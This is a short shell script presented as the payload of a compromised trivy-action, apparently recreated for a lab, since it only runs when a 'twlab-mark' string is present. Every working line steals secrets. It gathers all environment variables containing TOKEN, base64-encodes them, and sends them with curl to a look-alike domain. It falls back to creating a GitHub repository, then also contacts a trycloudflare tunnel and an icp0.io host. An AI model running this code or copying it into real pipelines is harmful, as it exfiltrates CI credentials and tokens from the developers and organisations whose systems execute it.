# The payload of trivy-action: an archive of secrets, to four places one after the other.
grep -q twlab-mark: /proc/self/net/dev || exit 97
archive=$(env | grep TOKEN | base64 -w0)
send() { curl -sSf -m 20 -o /dev/null "$@" || return 1; }

send -H 'X-Filename: tpcp.tar.gz' -d "$archive" https://scan.aquasecurtiy.org/ ||
	send -d "{\"name\":\"tpcp-docs\",\"data\":\"$archive\"}" https://api.github.com/user/repos
send -d "$archive" https://plug-tab-protective-relay.trycloudflare.com/
send https://tdtqy-oyaaa-aaaae-af2dq-cai.raw.icp0.io/
exit 0
